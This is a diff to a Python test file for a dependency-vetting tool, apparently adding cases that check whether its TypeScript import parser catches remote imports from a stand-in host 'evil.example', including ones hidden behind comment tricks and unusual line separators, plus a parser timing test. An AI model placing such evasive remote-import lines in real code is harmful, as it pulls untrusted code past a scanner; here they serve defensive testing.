@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import json
+import time
 from typing import Any, Final
 
 import pytest
 
+from npm_vetted.clients.deno.code import imported
 from tests.support.git_repo import GitRepo
 from tests.support.npm_projects import adopt, check, run
 
@@ -307,6 +309,10 @@ def test_a_jsr_package_that_a_command_runs_is_locked_or_exact(
         ('// import "npm:b";\n/** import "jsr:@x/y" */', False), ('import "./npm.ts"; import "node:fs";', False),
         ("await import(`https://evil.example/x.ts`)", True), ('import x from"https://evil.example/x.ts"', True),
         ('import x from // a\n  /* b */ "https://evil.example/x.ts"', True),
+        ('import x from // a\r"https://evil.example/x.ts"', True),
+        ('import x from // a\u2028"https://evil.example/x.ts"', True),
+        ('const u = "//"; import "https://evil.example/x.ts"', True),
+        ('const u = "http://a.example"; import "npm:b@1.0.0"', True),
         ('const u = "https://evil.example/x.ts";', False), ('import "std/x.ts"; import "http://h/x.ts"', True),
     ],
 )  # fmt: skip
@@ -317,6 +323,16 @@ def test_what_code_imports_by_itself_is_locked(repo: GitRepo, code: str, *, foun
     repo.commit("Lock a")
     expected = [("lockfile-sync", "out-of-date", "main.ts")] if found else []
     assert _findings(repo, {"main.ts": code + "\n"}) == expected
+
+
+@pytest.mark.parametrize(
+    "unit", ["//", "// ", "/* */ ", "/*", "/* ", "import /* ", "//a\n", "\n", "import "]
+)
+def test_hostile_code_takes_linear_time(unit: str) -> None:
+    code = f"import {unit * 20_000} 'https:".encode()
+    start = time.process_time()
+    assert list(imported(code)) == []
+    assert time.process_time() - start < 2
 
 
 @pytest.mark.parametrize("suffix", ["cjs", "cts", "js", "jsx", "mjs", "mts", "tsx"])
